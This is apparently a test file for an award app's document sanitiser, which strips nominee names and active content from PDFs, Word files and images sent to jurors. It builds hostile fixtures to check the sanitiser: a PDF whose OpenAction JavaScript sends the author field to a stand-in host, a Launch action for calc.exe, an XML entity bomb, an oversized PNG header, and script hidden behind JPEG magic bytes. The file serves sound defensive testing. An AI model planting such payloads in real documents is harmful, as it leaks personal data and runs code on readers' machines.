@@ -1,0 +1,301 @@
+"""S3/S7: the copies jurors of a blind round receive keep no name anywhere a PDF or Word document can hide
+one; active PDF content never survives; every decoder is bounded."""
+
+import io
+import zipfile
+
+import pikepdf
+import pytest
+from PIL import Image
+
+from award_app.nominations import cleaning, files
+from award_app.storage import LocalStorage
+from tests.nominations.factories import WORD
+from tests.sample_files import PDF, jpeg_with_artist, png_header_only
+
+NAMES = ("Mai Anh", "Nguyễn Thị", "Nguyen Thi", "Thành đoàn", "Trần Văn Bảo", "Bao Tran", "MaiAnh", "Lê Thị Cúc")
+VISIBLE = "Evidence of the river clean-up"
+STAMPED = "Received 12 March"  # drawn by an annotation: a printout shows it
+
+
+def names_in(text: str) -> list[str]:
+    return [name for name in NAMES if name.lower() in text.lower()]
+
+
+# -- PDF ----------------------------------------------------------------------------------------
+
+def _metadata_stream(pdf: pikepdf.Pdf, who: str) -> pikepdf.Stream:
+    xmp = (f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
+           f'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{who}</dc:creator>'
+           f'</rdf:Description></rdf:RDF></x:xmpmeta>').encode()
+    return pdf.make_stream(xmp, Type=pikepdf.Name.Metadata, Subtype=pikepdf.Name.XML)
+
+
+def _javascript(code: str) -> pikepdf.Dictionary:
+    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))
+
+
+def hostile_pdf() -> bytes:
+    """A one-page PDF hiding the nominee's name in every place we know of, and running scripts."""
+    pdf = pikepdf.new()
+    pdf.add_blank_page(page_size=(300, 300))
+    page = pdf.pages[0]
+    font = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1,
+                                                BaseFont=pikepdf.Name.Helvetica))
+    page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
+    page.obj.Contents = pdf.make_stream(f"BT /F1 12 Tf 20 150 Td ({VISIBLE}) Tj ET".encode())
+    pdf.docinfo["/Author"] = "Nguyễn Thị Mai Anh"
+    pdf.docinfo["/Title"] = "CV Nguyen Thi Mai Anh"
+    pdf.Root.Metadata = _metadata_stream(pdf, "Nguyễn Thị Mai Anh")
+    page.obj.Metadata = _metadata_stream(pdf, "Mai Anh (page)")
+    page.obj.PieceInfo = pikepdf.Dictionary(Illustrator=pikepdf.Dictionary(Private=pikepdf.String("MaiAnh")))
+    popup = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Popup,
+                                                 Rect=[0, 0, 10, 10], Contents=pikepdf.String("Mai Anh")))
+    note = pdf.make_indirect(pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[10, 10, 30, 30], T=pikepdf.String("Trần Văn Bảo"),
+        Contents=pikepdf.String("Sửa giúp Mai Anh"), RC=pikepdf.String("<p>Mai Anh</p>"), Popup=popup, F=4))
+    field = pdf.make_indirect(pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, Rect=[20, 200, 200, 220],
+        T=pikepdf.String("Nguyen Thi Mai Anh"), V=pikepdf.String("Thành đoàn Hà Nội"), F=4,
+        AA=pikepdf.Dictionary(K=_javascript("app.alert('Mai Anh')"))))
+    attachment_file = pdf.make_stream(b"Nguyen Thi Mai Anh, personal data", Type=pikepdf.Name.EmbeddedFile)
+    filespec = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("MaiAnh.txt"),
+                                                    EF=pikepdf.Dictionary(F=attachment_file)))
+    clip = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment,
+                                                Rect=[40, 40, 60, 60], FS=filespec, T=pikepdf.String("Mai Anh")))
+    link = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
+                                                Rect=[0, 0, 5, 5], A=pikepdf.Dictionary(S=pikepdf.Name.Launch,
+                                                                                        F=pikepdf.String("calc.exe"))))
+    stamp_look = pdf.make_stream(f"BT /F1 9 Tf 2 2 Td ({STAMPED}) Tj ET".encode(), Type=pikepdf.Name.XObject,
+                                 Subtype=pikepdf.Name.Form, BBox=[0, 0, 200, 20],
+                                 Resources=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font)))
+    stamp = pdf.make_indirect(pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Stamp, Rect=[20, 250, 220, 270], F=4,
+        T=pikepdf.String("Lê Thị Cúc"), AP=pikepdf.Dictionary(N=stamp_look)))
+    page.obj.Annots = pdf.make_indirect([note, popup, field, clip, link, stamp])
+    photo = pdf.make_stream(jpeg_with_artist("Nguyen Thi Mai Anh"), Type=pikepdf.Name.XObject,
+                            Subtype=pikepdf.Name.Image, Width=16, Height=16, ColorSpace=pikepdf.Name.DeviceRGB,
+                            BitsPerComponent=8, Filter=pikepdf.Name.DCTDecode)
+    page.obj.Resources.XObject = pikepdf.Dictionary(Im1=photo)
+    page.obj.AA = pikepdf.Dictionary(O=_javascript("app.alert(1)"))
+    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[field])
+    pdf.Root.OpenAction = _javascript("app.launchURL('http://x.example/?'+this.info.Author)")
+    pdf.Root.Names = pikepdf.Dictionary(
+        EmbeddedFiles=pikepdf.Dictionary(Names=[pikepdf.String("MaiAnh.txt"), filespec]),
+        JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("init"), pdf.make_indirect(_javascript("1"))]))
+    outline = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("CV Nguyễn Thị Mai Anh"),
+                                                   Dest=[page.obj, pikepdf.Name.Fit]))
+    pdf.Root.Outlines = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=outline, Last=outline,
+                                                             Count=1))
+    outline.Parent = pdf.Root.Outlines
+    out = io.BytesIO()
+    pdf.save(out)
+    return out.getvalue()
+
+
+def everything_in(pdf_bytes: bytes) -> str:
+    """The whole file with every stream decompressed, as text: where a name would show if it survived."""
+    with pikepdf.open(io.BytesIO(pdf_bytes)) as pdf:
+        out = io.BytesIO()
+        # Every stream decompressed but JPEG images, kept as they are (their EXIF is where a name would be).
+        pdf.save(out, qdf=True, stream_decode_level=pikepdf.StreamDecodeLevel.generalized, compress_streams=False)
+        words = [out.getvalue().decode("latin-1")]
+        for obj in pdf.objects:  # strings in UTF-16 or PDFDocEncoding, as a reader would show them
+            if isinstance(obj, pikepdf.Dictionary):
+                words += [str(v) for v in obj.values() if isinstance(v, pikepdf.String)]
+        return " ".join(words)
+
+
+def test_the_hostile_pdf_really_hides_the_names():
+    assert len(names_in(everything_in(hostile_pdf()))) >= 5  # the test below would prove nothing otherwise
+
+
+def test_a_blind_pdf_copy_keeps_no_name_anywhere_and_the_page_as_it_looks():
+    clean = cleaning.pdf_without_identity(io.BytesIO(hostile_pdf()))
+    everything = everything_in(clean)
+    assert names_in(everything) == []
+    assert VISIBLE in everything and STAMPED in everything  # the page as a printout shows it is kept
+    for active in ("/JavaScript", "/JS", "/OpenAction", "/AA", "/EmbeddedFile", "/Launch", "/FileAttachment"):
+        assert active not in everything, active
+    with pikepdf.open(io.BytesIO(clean)) as pdf:
+        assert len(pdf.pages) == 1 and "/Info" not in pdf.trailer and "/Metadata" not in pdf.Root
+        photo = pikepdf.PdfImage(pdf.pages[0].Resources.XObject.Im1).as_pil_image()
+        assert photo.size == (16, 16) and photo.getpixel((8, 8))[0] > 150  # the picture itself is intact
+
+
+def test_active_content_is_taken_out_of_every_pdf_and_a_plain_one_is_kept_as_sent():
+    neutral = cleaning.pdf_without_active_content(io.BytesIO(hostile_pdf()))
+    everything = everything_in(neutral)
+    for active in ("/JavaScript", "/JS", "/OpenAction", "/AA", "/EmbeddedFile", "/Launch", "/FileAttachment"):
+        assert active not in everything, active
+    assert VISIBLE in everything and "Trần Văn Bảo" in everything  # not a blind copy: the note stays
+    assert cleaning.pdf_without_active_content(io.BytesIO(PDF)) is None
+
+
+def test_an_unreadable_pdf_cannot_be_cleaned():
+    with pytest.raises(cleaning.CannotClean):
+        cleaning.without_identity(io.BytesIO(b"%PDF-1.7\n" + b"\x00" * 200), "pdf")
+
+
+# -- Word ---------------------------------------------------------------------------------------
+
+CORE = ('<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
+        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator xml:lang="vi-VN">Nguyễn Thị Mai Anh</dc:creator>'
+        '<cp:lastModifiedBy a="1">Trần Văn Bảo</cp:lastModifiedBy><dc:title>CV Mai Anh</dc:title>'
+        '</cp:coreProperties>')
+APP = ('<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
+       '<Company>Thành đoàn Hà Nội</Company><Manager>Trần Văn Bảo</Manager><Template>Normal.dotm</Template>'
+       '</Properties>')
+CUSTOM = ('<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties">'
+          '<property name="Nominee"><vt:lpwstr xmlns:vt="x">Nguyen Thi Mai Anh</vt:lpwstr></property></Properties>')
+DOCUMENT = (f'<w:document xmlns:w="{WORD}"><w:body>'
+            '<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>Báo cáo tự đánh giá</w:t></w:r>'
+            '<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>'
+            '<w:p><w:ins w:id="1" w:author="Trần Văn Bảo" w:date="2026-01-01T00:00:00Z"><w:r><w:t>Đã thêm</w:t></w:r>'
+            '</w:ins><w:del w:id="2" w:author="Nguyễn Thị Mai Anh"><w:r><w:delText>Mai Anh</w:delText></w:r></w:del>'
+            '<w:r><w:rPr><w:b/><w:rPrChange w:id="3" w:author="Bao Tran" w:initials="MaiAnh"><w:rPr/></w:rPrChange>'
+            '</w:rPr><w:t>Giữ lại</w:t></w:r></w:p><w:tbl><w:tr><w:tc><w:tcPr><w:cellIns w:id="4" '
+            'w:author="Lê Thị Cúc"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl></w:body></w:document>')
+COMMENTS = (f'<w:comments xmlns:w="{WORD}"><w:comment w:id="0" w:author="Trần Văn Bảo" w:initials="TVB">'
+            '<w:p><w:r><w:t>Mai Anh ơi, sửa chỗ này</w:t></w:r></w:p></w:comment></w:comments>')
+PEOPLE = ('<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"><w15:person '
+          'w15:author="Nguyễn Thị Mai Anh"/></w15:people>')
+SETTINGS = (f'<w:settings xmlns:w="{WORD}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
+            'relationships"><w:attachedTemplate r:id="rId1"/><w:docVars><w:docVar w:name="who" w:val="Mai Anh"/>'
+            '</w:docVars></w:settings>')
+SETTINGS_RELS = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
+                 'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
+                 ' Target="file:///C:/Users/MaiAnh/Templates/CV.dotx" TargetMode="External"/></Relationships>')
+DOCUMENT_RELS = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                 '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+                 'comments" Target="comments.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/'
+                 'officeDocument/2006/relationships/settings" Target="settings.xml"/><Relationship Id="rId3" Type='
+                 '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/a.jpg"/>'
+                 '</Relationships>')
+CONTENT_TYPES = ('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+                 '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
+                 'officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/comments.xml" '
+                 'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/>'
+                 '<Override PartName="/docProps/custom.xml" ContentType="application/vnd.openxmlformats-'
+                 'officedocument.custom-properties+xml"/></Types>')
+
+
+def hostile_docx() -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, body in {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": DOCUMENT,
+                           "word/_rels/document.xml.rels": DOCUMENT_RELS, "word/comments.xml": COMMENTS,
+                           "word/commentsExtended.xml": COMMENTS.replace("w:comments", "w:commentsEx"),
+                           "word/people.xml": PEOPLE, "word/settings.xml": SETTINGS,
+                           "word/_rels/settings.xml.rels": SETTINGS_RELS, "docProps/core.xml": CORE,
+                           "docProps/app.xml": APP, "docProps/custom.xml": CUSTOM,
+                           "customXml/item1.xml": "<nominee>Nguyen Thi Mai Anh</nominee>"}.items():
+            archive.writestr(name, body)
+        archive.writestr("word/media/a.jpg", jpeg_with_artist("Nguyen Thi Mai Anh"))
+    return out.getvalue()
+
+
+def _unpacked(docx: bytes) -> dict[str, bytes]:
+    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+def test_the_hostile_docx_really_hides_the_names():
+    text = " ".join(body.decode("utf-8", "replace") for body in _unpacked(hostile_docx()).values())
+    assert len(names_in(text)) >= 5
+
+
+def test_a_blind_word_copy_keeps_no_name_in_any_part_or_attribute():
+    parts = _unpacked(cleaning.without_identity(io.BytesIO(hostile_docx()), "docx"))
+    text = " ".join(body.decode("utf-8", "replace") for body in parts.values())
+    assert names_in(text) == []
+    assert "author" not in text and "file:///" not in text
+    document = parts["word/document.xml"].decode()
+    assert "Báo cáo tự đánh giá" in document and "Đã thêm" in document and "Giữ lại" in document  # changes accepted
+    assert "comments.xml" not in parts["word/_rels/document.xml.rels"].decode()  # no link to a removed part
+    assert "/word/comments.xml" not in parts["[Content_Types].xml"].decode()
+    assert not any(name.startswith(("customXml/", "word/comments", "word/people")) or name == "docProps/custom.xml"
+                   for name in parts)
+    with Image.open(io.BytesIO(parts["word/media/a.jpg"])) as photo:  # still a picture, without its EXIF
+        assert photo.size == (16, 16) and not photo.getexif()
+
+
+def test_word_parts_are_parsed_without_entities():
+    bomb = ('<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "Mai Anh"><!ENTITY b "&a;&a;&a;&a;">]>'
+            f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>')
+    docx = io.BytesIO()
+    with zipfile.ZipFile(docx, "w") as archive:
+        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
+        archive.writestr("word/document.xml", bomb)
+    try:
+        parts = _unpacked(cleaning.without_identity(io.BytesIO(docx.getvalue()), "docx"))
+    except cleaning.CannotClean:
+        return  # refused: fine as well
+    assert "Mai Anh" not in parts["word/document.xml"].decode()
+
+
+def test_a_word_document_too_large_once_unpacked_is_not_read():
+    many = io.BytesIO()
+    with zipfile.ZipFile(many, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
+        archive.writestr("word/document.xml", f'<w:document xmlns:w="{WORD}">' + " " * 5000 + "</w:document>")
+    with pytest.raises(cleaning.DocxTooLarge):
+        cleaning.docx_without_identity(io.BytesIO(many.getvalue()), cleaning.DocxLimits(max_xml_part=4000))
+    with pytest.raises(cleaning.DocxTooLarge):
+        cleaning.docx_without_identity(io.BytesIO(many.getvalue()), cleaning.DocxLimits(max_parts=1))
+    with pytest.raises(cleaning.DocxTooLarge):
+        cleaning.docx_without_identity(io.BytesIO(many.getvalue()), cleaning.DocxLimits(max_unpacked=1000))
+
+
+def test_an_upload_with_too_many_parts_is_refused(tmp_path):
+    crowded = io.BytesIO()
+    with zipfile.ZipFile(crowded, "w") as archive:
+        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
+        archive.writestr("word/document.xml", DOCUMENT)
+        for n in range(cleaning.DocxLimits().max_parts):
+            archive.writestr(f"word/media/{n}.bin", b"")
+    with pytest.raises(files.UploadRefused) as refused:
+        files.store(io.BytesIO(crowded.getvalue()), LocalStorage(tmp_path), max_bytes=10_000_000, allowed={"docx"})
+    assert refused.value.reason == "unpacks_too_large"
+
+
+# -- images -------------------------------------------------------------------------------------
+
+def test_an_image_over_the_pixel_bound_is_refused_before_it_is_decoded(tmp_path):
+    bomb = png_header_only(8000, 8000)  # 64 megapixels: over our bound, under Pillow's own
+    with pytest.raises(files.UploadRefused) as refused:
+        files.store(io.BytesIO(bomb), LocalStorage(tmp_path), max_bytes=1_000_000, allowed={"png"})
+    assert refused.value.reason == "too_many_pixels"
+    with pytest.raises(cleaning.TooManyPixels):
+        cleaning.without_identity(io.BytesIO(bomb), "png")
+
+
+def test_html_behind_image_magic_bytes_is_not_a_photo(tmp_path):
+    fake = b"\xff\xd8\xff" + b"<html><script>alert(1)</script></html>\n"
+    assert len(fake) == 42
+    with pytest.raises(files.UploadRefused) as refused:
+        files.store(io.BytesIO(fake), LocalStorage(tmp_path), max_bytes=1_000_000, allowed={"jpeg"})
+    assert refused.value.reason == "unknown_type"
+
+
+def test_a_truncated_image_is_refused(tmp_path):
+    whole = jpeg_with_artist("x")
+    with pytest.raises(files.UploadRefused):
+        files.store(io.BytesIO(whole[: len(whole) // 2]), LocalStorage(tmp_path), max_bytes=1_000_000,
+                    allowed={"jpeg"})
+
+
+def test_a_blind_image_copy_keeps_the_pixels_and_nothing_else():
+    clean = cleaning.without_identity(io.BytesIO(jpeg_with_artist("Nguyen Thi Mai Anh")), "jpeg")
+    assert b"Mai Anh" not in clean
+    with Image.open(io.BytesIO(clean)) as image:
+        assert image.size == (16, 16) and not image.getexif() and "comment" not in image.info
+
+
+def test_a_blind_copy_is_made_once_and_kept_as_a_file(tmp_path, monkeypatch):
+    storage = LocalStorage(tmp_path)
+    sha, _size, kind = files.store(io.BytesIO(hostile_pdf()), storage, max_bytes=1_000_000, allowed={"pdf"})
+    key = files.blind_copy(storage, sha, kind)
+    assert storage.exists(key) and key.startswith(f"blind/v{cleaning.VERSION}/")
+    monkeypatch.setattr(cleaning, "without_identity", lambda *_: pytest.fail("cleaned a second time"))
+    assert files.blind_copy(storage, sha, kind) == key
